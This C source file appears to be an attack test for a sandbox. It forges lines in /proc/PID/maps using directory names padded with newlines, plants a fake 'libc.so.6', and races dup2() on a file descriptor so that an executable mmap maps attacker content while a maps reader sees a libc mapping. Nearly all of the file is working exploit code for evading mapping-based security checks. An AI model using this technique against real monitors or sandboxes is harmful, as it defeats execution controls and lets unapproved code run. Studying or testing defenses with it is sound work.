/*
 * An attack by a name in /proc/PID/maps: what a reader of lines takes for a
 * line of its own, as the one before it is longer than he thinks.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "wall.h"

#define SLOT	40
#define LIBRARY	"/usr/lib/x86_64-linux-gnu/libc.so.6"
#define FORGED	"1-7fffffffffff r-xp 00000000 00:00 0 "

static atomic_bool over;
static int both[2];

static void *
exchange(void *arg)
{
	while (!over) {
		dup2(both[0], SLOT);
		dup2(both[1], SLOT);
	}
	return arg;
}

static int
enter(const char *name)
{
	return mkdir(name, 0755) < 0 && errno != EEXIST ? -1 : chdir(name);
}

/*
 * Folders such that a piece of `size` bytes of the line ends where the last
 * one's name goes on with a line like the library's. Newlines are written with
 * four letters there, so that all of it is a name that is not too long.
 */
static int
forge(size_t size)
{
	char name[256], at[PATH_MAX], *part;
	size_t left, n;
	int fd;

	if (getcwd(at, sizeof(at)) == NULL)
		return -1;
	for (left = size - 1 - 73 - strlen(at) - 1; left > 840; ) {
		n = left - 840 > 1001 ? 250 : 100;
		memset(name, '\n', n);
		name[n] = '\0';
		if (enter(name) < 0)
			return -1;
		left -= 4 * n + 1;
	}
	memset(name, '\n', left / 4);
	memset(name + left / 4, 'a', left % 4);
	strcpy(name + left / 4 + left % 4, FORGED);
	strcpy(at, LIBRARY + 1);
	if (enter(name) < 0)
		return -1;
	for (part = strtok(at, "/"); strcmp(part, "libc.so.6") != 0;
	    part = strtok(NULL, "/"))
		if (enter(part) < 0)
			return -1;
	fd = open(part, O_RDWR | O_CREAT, 0755);
	return fd >= 0 && write(fd, "CODE", 4) == 4 && ftruncate(fd, 4096) == 0 ?
	    fd : -1;
}

int
map_forged(void)
{
	char *seen, *code;
	pthread_t thread;
	int tries;

	both[0] = open(LIBRARY, O_RDONLY);
	both[1] = forge(PATH_MAX + 256);
	if (both[0] < 0 || both[1] < 0)
		return lost("names");
	seen = mmap((void *)0x10000000, 4096, PROT_READ, MAP_PRIVATE |
	    MAP_FIXED, both[1], 0);
	if (seen == MAP_FAILED)
		return lost("mmap");
	dup2(both[0], SLOT);
	pthread_create(&thread, NULL, exchange, NULL);
	for (tries = 0; tries < 20000; tries++) {
		code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE,
		    SLOT, 0);
		if (code == MAP_FAILED)
			continue;
		if (memcmp(code, "CODE", 4) == 0)
			return won();
		munmap(code, 4096);
	}
	return lost("20000 tries");
}
